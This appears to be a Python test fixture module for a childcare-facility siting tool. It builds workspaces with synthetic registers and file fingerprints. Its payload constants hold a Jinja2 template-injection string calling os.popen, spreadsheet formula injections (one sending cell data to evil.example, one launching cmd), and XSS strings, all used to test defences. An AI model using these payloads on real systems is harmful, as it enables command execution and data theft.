"""A workspace for the hostile-input tests: the bundled configuration with absolute paths, registers written on the
fly, a user's own files around the outputs, and fingerprints of everything (tests/test_hostile_inputs.py,
tests/test_hostile_run.py).

Every name here that is not real data is synthetic: the registers are made-up test records at real Songjiang
coordinates, never presented as facilities that exist.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import io
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parents[1]
BUNDLED = ROOT / "data" / "config" / "songjiang.yaml"
HEADER = ["编号", "名称", "类型", "经度", "纬度", "托位数", "开办年份", "地址"]
#: Points inside Songjiang (WGS-84) for synthetic records.
POINTS = [(121.2270, 31.0050), (121.2150, 31.0330), (121.2350, 31.0130), (121.2050, 31.0230), (121.2450, 31.0430),
          (121.1950, 31.0130), (121.2550, 31.0230), (121.2250, 31.0530)]

#: Text a hostile or careless register may carry: templates (Jinja2, and matplotlib's $mathtext$), formulas, markup.
TEMPLATE_PAYLOADS = ("{{7*7}}号托育点", "{% raw %}托育点", "{# 托育点", "}}托育点{{",
                     "{{ cycler.__init__.__globals__.os.popen('touch svcov-pwned').read() }}", "$\\frac{$托育点")
FORMULA_PAYLOADS = ('=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=cmd|' /C calc'!A0", "+1+1托育点",
                    "-2+3托育点", "@SUM(A1:A2)")
MARKUP_PAYLOADS = ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>')
PAYLOADS = TEMPLATE_PAYLOADS + FORMULA_PAYLOADS + MARKUP_PAYLOADS


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tree(folder: Path) -> dict[str, str]:
    """Every file below ``folder`` (hidden ones too) → its SHA-256."""
    return {p.relative_to(folder).as_posix(): digest(p) for p in sorted(folder.rglob("*")) if p.is_file()}


def bundled_inputs() -> dict[str, str]:
    """Fingerprints of the bundled data the runs read (they must never change)."""
    return tree(ROOT / "data")


def csv_text(rows: list[list[object]], header: list[str] = HEADER) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, *rows])
    return out.getvalue()


def register_rows(names: list[str], *, addresses: list[str] | None = None, type_zh: str = "普惠性托育点",
                  year: int = 2021) -> list[list[object]]:
    """Synthetic records: one per name, at the points of :data:`POINTS` (cycled, shifted slightly)."""
    rows = []
    for i, name in enumerate(names):
        lon, lat = POINTS[i % len(POINTS)]
        shift = 0.002 * (i // len(POINTS))
        rows.append([f"H{i + 1:03d}", name, type_zh, f"{lon + shift:.4f}", f"{lat + shift:.4f}", 20, year,
                     (addresses or names)[i % len(addresses or names)]])
    return rows


class Workspace:
    """A folder holding a user's world: their files, their registers and configurations, and the outputs folder.

    ``user_files`` are files the user made (a thesis, notes) in the outputs folder and beside it: no run may touch
    them.
    """

    def __init__(self, root: Path):
        self.root = root
        self.outputs = root / "outputs"
        self.outputs.mkdir(parents=True)
        self.user_files = {self.outputs / "我的论文.docx": b"four years of work",
                           self.outputs / "notes" / "笔记.txt": "会议纪要".encode(),
                           root / "work" / "data.xlsx": b"the user's own spreadsheet"}
        for path, data in self.user_files.items():
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)

    def file(self, name: str, content: str | bytes, *, encoding: str = "utf-8") -> Path:
        path = self.root / "inputs" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
        return path

    def config(self, name: str = "run.yaml", changes: dict | None = None, *, text: str | None = None) -> Path:
        """The bundled configuration (paths made absolute, outputs into :attr:`outputs`) with ``changes`` applied
        (nested dicts merge; ``None`` deletes a key), or ``text`` as written."""
        if text is None:
            data = base_config(self.outputs)
            _merge(data, changes or {})
            text = yaml.safe_dump(data, allow_unicode=True, sort_keys=False)
        return self.file(name, text)

    def snapshot(self) -> dict[str, str]:
        return tree(self.root)

    def user_files_intact(self) -> bool:
        return all(path.is_file() and path.read_bytes() == data for path, data in self.user_files.items())


def base_config(outputs: Path) -> dict:
    """The bundled configuration as a dict, every path absolute, ``outputs.dir`` = ``outputs``."""
    data = yaml.safe_load(BUNDLED.read_text(encoding="utf-8"))
    here = BUNDLED.parent

    def absolute(value: str) -> str:
        return str((here / value).resolve())

    data["boundaries"]["path"] = absolute(data["boundaries"]["path"])
    data["facility_types"] = absolute(data["facility_types"])
    for source in data["facilities"]:
        source["path"] = absolute(source["path"])
    data["population"]["estimate"]["compounds"] = absolute(data["population"]["estimate"]["compounds"])
    data["network"]["cache_dir"] = absolute(data["network"]["cache_dir"])
    data["rules"] = absolute(data["rules"])
    for candidate in [*data["siting"]["candidates"],
                      *(c for leg in data["siting"].get("legs", []) for c in leg.get("candidates", []))]:
        if "path" in candidate:
            candidate["path"] = absolute(candidate["path"])
    data["outputs"] = {"dir": str(outputs), "basemap": "none"}
    return copy.deepcopy(data)


def _merge(data: dict, changes: dict) -> None:
    for key, value in changes.items():
        if value is None:
            data.pop(key, None)
        elif isinstance(value, dict) and isinstance(data.get(key), dict):
            _merge(data[key], value)
        else:
            data[key] = value
